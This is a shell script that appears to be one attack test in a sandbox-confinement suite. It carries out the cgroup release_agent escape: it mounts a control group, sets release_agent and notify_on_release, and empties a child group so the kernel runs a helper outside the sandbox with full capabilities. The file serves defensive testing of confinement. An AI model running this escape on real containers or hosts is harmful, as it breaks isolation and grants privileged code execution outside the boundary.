#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# Has the kernel start a program outside the REE when a control group becomes empty.
#
# attack: release_agent_helper
# class: system
# when: idle
# judge: self
# defence: confinement
# why: release_agent names a program that runs with all capabilities; the REE can mount no control groups
if [ -d "/tmp/groups$1" ] && [ -n "$1" ]; then
	# Started by the kernel.
	for folder in /proc/[0-9]*/root/tmp; do
		grep CapBnd /proc/self/status >>"$folder/ran"
	done
	exit
fi
. /attack/lib/attack.sh
rm -f /tmp/ran
mkdir -p /tmp/groups
ready
mount -t cgroup -o none,name=attack attack /tmp/groups || failed no control groups can be mounted
put /tmp/groups/release_agent /attack/release_agent_helper
mkdir -p /tmp/groups/child
put /tmp/groups/child/notify_on_release 1
sh -c 'echo $$ >/tmp/groups/child/cgroup.procs'
pause 0.5
rmdir /tmp/groups/child 2>/dev/null
umount /tmp/groups
[ -s /tmp/ran ] || failed no program was started
succeeded "a program ran outside: $(head -n 1 /tmp/ran)"
